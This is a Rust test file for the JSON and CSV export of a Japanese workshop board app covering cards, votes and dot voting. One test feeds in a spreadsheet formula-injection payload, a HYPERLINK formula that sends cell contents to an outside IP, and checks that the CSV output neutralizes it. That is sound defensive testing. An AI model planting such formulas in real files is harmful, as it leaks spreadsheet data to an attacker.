//! Built through the reducer, as real docs are.

use serde_json::{Value, json};
use shared::docs::board::{Answer, BoardOp, Given, Line, Mark, Member, NoteOn, Place, Reach, Reaction, Star, Stop};
use shared::docs::roster::RosterOp;
use shared::docs::workshop::WorkshopOp;
use shared::ids::TokenHash;
use shared::{CardId, ClientId, Doc, Model, NoteId, OpId, Outcome, SortedMap, Stamp, VoteId};

use super::*;

const TAKEN_AT: Millis = Millis(1_707_465_600_999);

struct Writer<M> {
    doc: Doc<M>,
    n: u32,
}

impl<M: Model> Writer<M> {
    fn new() -> Self {
        Self { doc: Doc::default(), n: 0 }
    }

    fn take(&mut self, by: By, op: M::Op) -> OpId {
        self.n += 1;
        let client = match by {
            By::Server => ClientId::FROM_ROSTER,
            By::Lead => ClientId::of(1_000),
            By::Helper => ClientId::of(2_000),
            By::Person(person) => ClientId::of(u64::from(person.0) + 100),
        };
        let id = OpId { client, n: self.n };
        let stamp = Stamp { seq: self.doc.seq.next(), at: TAKEN_AT, by, id };
        assert!(matches!(self.doc.apply(&stamp, &op), Outcome::Applied(_)));
        id
    }
}

fn workshop() -> Workshop {
    let mut writer = Writer::<Workshop>::new();
    writer.take(
        By::Server,
        WorkshopOp::Create {
            title: "協働推進研修".into(),
            goal: "根本の原因を見つける".into(),
            language: Language::Ja,
            code: "ACDEFH".parse().unwrap(),
            groups: 2,
            seats: 5,
        },
    );
    writer.take(By::Lead, WorkshopOp::NameGroup { group: GroupId(2), name: "はと".into() });
    writer.doc.model
}

fn roster() -> Roster {
    let mut writer = Writer::<Roster>::new();
    let (key, group) = (TokenHash([7; 32]), GroupId(1));
    writer.take(By::Server, RosterOp::Join { key, name: "佐藤".into(), section: "市民課".into(), group, seats: 5 });
    writer.doc.model
}

fn board() -> Board {
    let mut writer = Writer::<Board>::new();
    let sato = By::Person(PersonId(1));
    let gone = By::Person(PersonId(9));
    let member = Member { name: "鈴木".into(), seated: Seated::Elsewhere };
    writer.take(By::Server, BoardOp::SetMember { person: PersonId(9), member });
    let theme = shared::text::TextEdit::Insert { after: None, start: 1, text: "自治会の高齢化".into() };
    writer.take(sato, BoardOp::EditText { card: CardId::THEME, edit: theme });
    let add = |parent: CardId, text: &str| BoardOp::AddCard { parent, place: Place::Last, text: text.into(), start: 1 };
    let first = CardId::from(writer.take(sato, add(CardId::THEME, "若い人が入らない")));
    let below = CardId::from(writer.take(gone, add(first, "活動日が平日の昼")));
    let second = CardId::from(writer.take(By::Lead, add(CardId::THEME, "役員が同じ")));
    let removed = CardId::from(writer.take(sato, add(second, "消した")));
    writer.take(sato, BoardOp::RemoveCard { card: removed });
    writer.take(sato, BoardOp::SetStar { card: below, star: Star::RootCause });
    writer.take(sato, BoardOp::SetMark { card: below, mark: Some(Mark::ToCheck) });
    writer.doc.model
}

#[test]
fn a_workshop_is_told_by_names_and_as_a_tree() {
    let id = WorkshopId::default();
    let export = Export::new(id, &workshop(), &roster(), &[(GroupId(1), board()), (GroupId(2), Board::default())]);
    let at = "2024-02-09T08:00:00Z";
    let sato = json!({"role": "participant", "person": 1, "name": "佐藤"});
    let found = serde_json::to_value(&export).unwrap();
    assert_eq!(
        found["workshop"],
        json!({
            "id": "00000000000000000000000000000000", "code": "ACDEFH", "title": "協働推進研修",
            "goal": "根本の原因を見つける", "language": "ja", "phase": "lobby", "made_at": at,
        })
    );
    assert_eq!(
        found["roster"],
        json!([{"person": 1, "name": "佐藤", "section": "市民課", "group": 1, "joined_at": at}])
    );
    assert_eq!(
        found["boards"][1],
        json!({
            "group": 2, "name": "はと", "theme": "", "members": [], "premises": [], "proposals": [], "vote": null,
            "dots": null, "cards": [],
        })
    );
    let board = &found["boards"][0];
    assert_eq!(board["theme"], "自治会の高齢化");
    assert_eq!(board["members"], json!([{"person": 9, "name": "鈴木", "seated": false}]));
    let first = &board["cards"][0];
    assert_eq!((&first["text"], &first["by"], &first["mark"]), (&json!("若い人が入らない"), &sato, &Value::Null));
    let below = &first["because"][0];
    assert_eq!(
        (&below["text"], &below["star"], &below["mark"], &below["by"]["name"], &below["at"]),
        (&json!("活動日が平日の昼"), &json!(true), &json!("to_check"), &json!("鈴木"), &json!(at))
    );
    let second = &board["cards"][1];
    assert_eq!(
        (&second["by"], &second["because"]),
        (&json!({"role": "lead"}), &json!([])),
        "removed cards are not told"
    );
}

#[test]
fn the_cards_are_a_table_in_which_nothing_is_calculated() {
    let mut writer = Writer::<Board>::new();
    let sato = By::Person(PersonId(1));
    let text = "=HYPERLINK(\"http://198.51.100.7/?\"&A1,\"見る\")";
    let add = |parent, text: &str| BoardOp::AddCard { parent, place: Place::Last, text: text.into(), start: 0 };
    let first = CardId::from(writer.take(sato, add(CardId::THEME, text)));
    writer.take(sato, add(first, "活動日が、平日の昼, だけ"));
    let boards = [(GroupId(1), writer.doc.model), (GroupId(2), board())];
    let table = Export::new(WorkshopId::default(), &workshop(), &roster(), &boards).table().unwrap();
    let at = "2024-02-09T08:00:00Z";
    let rows: Vec<&str> = table.lines().collect();
    assert_eq!(
        rows,
        [
            "\u{feff}班,課題,なぜの深さ,なぜ？,その結果,しるし,根本原因,書いた人,書いた時刻（UTC）".to_owned(),
            format!("1,,1,\"'=HYPERLINK(\"\"http://198.51.100.7/?\"\"&A1,\"\"見る\"\")\",,,,佐藤,{at}"),
            format!(
                "1,,2,\"活動日が、平日の昼, だけ\",\"'=HYPERLINK(\"\"http://198.51.100.7/?\"\"&A1,\"\"見る\"\")\",,,佐藤,{at}"
            ),
            format!("はと,自治会の高齢化,1,若い人が入らない,自治会の高齢化,,,佐藤,{at}"),
            format!("はと,自治会の高齢化,2,活動日が平日の昼,若い人が入らない,要確認,★,鈴木,{at}"),
            format!("はと,自治会の高齢化,1,役員が同じ,自治会の高齢化,,,,{at}"),
        ]
    );
    assert_eq!(table.matches("\r\n").count(), rows.len());
}

/// The first board of an export of this one.
fn told(board: Board) -> Value {
    let export = Export::new(WorkshopId::default(), &workshop(), &roster(), &[(GroupId(1), board)]);
    serde_json::to_value(&export).unwrap()["boards"][0].clone()
}

#[test]
fn what_is_said_about_a_card_is_told() {
    let mut writer = Writer::<Board>::new();
    let (sato, lead) = (By::Person(PersonId(1)), By::Lead);
    let add = |parent: CardId, text: &str| BoardOp::AddCard { parent, place: Place::Last, text: text.into(), start: 0 };
    let card = CardId::from(writer.take(sato, add(CardId::THEME, "忙しい")));
    let other = CardId::from(writer.take(lead, add(CardId::THEME, "若い人がいない")));
    let same = CardId::from(writer.take(lead, add(CardId::THEME, "いそがしい")));
    let insert = |text: &str, start| shared::text::TextEdit::Insert { after: None, start, text: text.into() };
    writer.take(lead, BoardOp::EditText { card, edit: insert("仕事が", 500) });
    writer.take(lead, BoardOp::MergeCard { card: same, into: card });
    writer.take(sato, BoardOp::LinkCard { card, under: other });
    writer.take(sato, BoardOp::SetStar { card, star: Star::Both });
    writer.take(sato, BoardOp::SetReach { card, reach: Some(Reach::WithOthers) });
    writer.take(sato, BoardOp::SetStop { card, stop: Some(Stop::CheckFirst) });
    writer.take(sato, BoardOp::EditLine { card, line: Line::StopReason, edit: insert("来月わかる", 600) });
    writer.take(sato, BoardOp::EditLine { card, line: Line::Evidence, edit: insert("名簿", 700) });
    let lane = shared::LaneId::from(writer.take(sato, BoardOp::PutLane { lane: None, name: "地域".into() }));
    writer.take(sato, BoardOp::SetLane { card, lane: Some(lane) });
    for (by, answer) in [(sato, Answer::Holds), (lead, Answer::Jumps)] {
        writer.take(by, BoardOp::ReadLink { card, under: CardId::THEME, answer: Some(answer) });
    }
    for to in [card, same] {
        writer.take(sato, BoardOp::React { card: to, reaction: Reaction::UsToo, given: Given::Yes });
    }
    writer.take(sato, BoardOp::AddNote { on: NoteOn::Card(same), text: "見守り隊では？".into(), start: 800 });
    let told = told(writer.doc.model);
    let found = &told["cards"][0];
    let expected = json!({
        "text": "仕事が忙しい", "star": true, "stars": ["root_cause", "place_to_act"], "editors": [{"role": "lead"}],
        "first_wording": "忙しい", "merged_wordings": ["いそがしい"], "reach": "with_others", "stop": "check_first",
        "stop_reason": "来月わかる", "evidence": "名簿", "lane": "地域", "also_causes": [other.to_string()],
        "readings": [{"effect": CardId::THEME.to_string(), "holds": 1, "jumps": 1, "check": 0}],
        "reactions": {"agree": 0, "question": 0, "us_too": 1},
    });
    for (field, value) in expected.as_object().unwrap() {
        assert_eq!(&found[field], value, "{field}");
    }
    assert_eq!(found["comments"][0]["text"], "見守り隊では？");
    assert_eq!(told["cards"].as_array().unwrap().len(), 2, "what was merged is told with what it is merged into");
}

#[test]
fn proposals_are_told_with_their_votes_and_nobodys_ballot() {
    let mut writer = Writer::<Board>::new();
    let sato = By::Person(PersonId(1));
    let add = |on, text: &str| BoardOp::AddNote { on, text: text.into(), start: 0 };
    let first = NoteId::from(writer.take(sato, add(NoteOn::Proposal, "買い物に困る")));
    writer.take(By::Lead, add(NoteOn::Proposal, "空き家が増えた"));
    writer.take(By::Lead, add(NoteOn::Premise, "120世帯"));
    writer.take(sato, BoardOp::SeeMyself { note: first, given: Given::Yes });
    assert_eq!(told(writer.doc.model.clone())["vote"], Value::Null);
    let vote = VoteId::from(writer.take(sato, BoardOp::OpenVote));
    let open = told(writer.doc.model.clone());
    assert_eq!(open["vote"], json!({"state": "open", "ballots": null}));
    assert_eq!(open["proposals"][0]["votes"], Value::Null, "nothing is known before the end");
    writer.take(sato, BoardOp::CloseVote { vote });
    writer.take(By::Server, BoardOp::CountVote { vote, ballots: 3, votes: SortedMap::from([(first, 2)]) });
    let told = told(writer.doc.model);
    assert_eq!(told["vote"], json!({"state": "counted", "ballots": 3}));
    let [first, second] = &told["proposals"].as_array().unwrap()[..] else { panic!("{told}") };
    assert_eq!((&first["text"], &first["votes"]), (&json!("買い物に困る"), &json!(2)));
    assert_eq!(first["seen_by"], json!([{"role": "participant", "person": 1, "name": "佐藤"}]));
    assert_eq!((&second["votes"], &second["seen_by"]), (&json!(0), &json!([])));
    assert_eq!(told["premises"][0]["text"], "120世帯");
    assert_eq!(told["premises"][0].get("votes"), None);
}

#[test]
fn dots_are_told_with_the_words_that_people_chose() {
    let mut writer = Writer::<Board>::new();
    let mut add = |text: &str| {
        let op = BoardOp::AddCard { parent: CardId::THEME, place: Place::Last, text: text.into(), start: 0 };
        CardId::from(writer.take(By::Lead, op))
    };
    let cards = vec![add("役員の仕事が多い"), add("断れない空気がある")];
    let vote = VoteId::from(writer.take(By::Lead, BoardOp::OpenDots { cards, each: 2 }));
    let open = told(writer.doc.model.clone());
    assert_eq!((&open["dots"]["state"], &open["dots"]["ballots"]), (&json!("open"), &Value::Null));
    assert_eq!(open["dots"]["options"][0]["dots"], Value::Null, "nothing is known before the end");
    writer.take(By::Lead, BoardOp::CloseDots { vote });
    writer.take(By::Server, BoardOp::CountDots { vote, ballots: 3, dots: vec![1, 5] });
    let told = told(writer.doc.model);
    assert_eq!((&told["dots"]["each"], &told["dots"]["ballots"]), (&json!(2), &json!(3)));
    let second = &told["dots"]["options"][1];
    assert_eq!((&second["text"], &second["dots"]), (&json!("断れない空気がある"), &json!(5)));
}

#[test]
fn no_key_is_in_it() {
    let export = Export::new(WorkshopId::default(), &workshop(), &roster(), &[]);
    let text = serde_json::to_string(&export).unwrap();
    assert!(!text.contains(&TokenHash([7; 32]).to_string()));
}

#[test]
fn any_time_can_be_told() {
    assert_eq!(time(Millis(0)), "1970-01-01T00:00:00Z");
    assert_eq!(time(Millis(u64::MAX)), jiff::Timestamp::MAX.to_string());
}
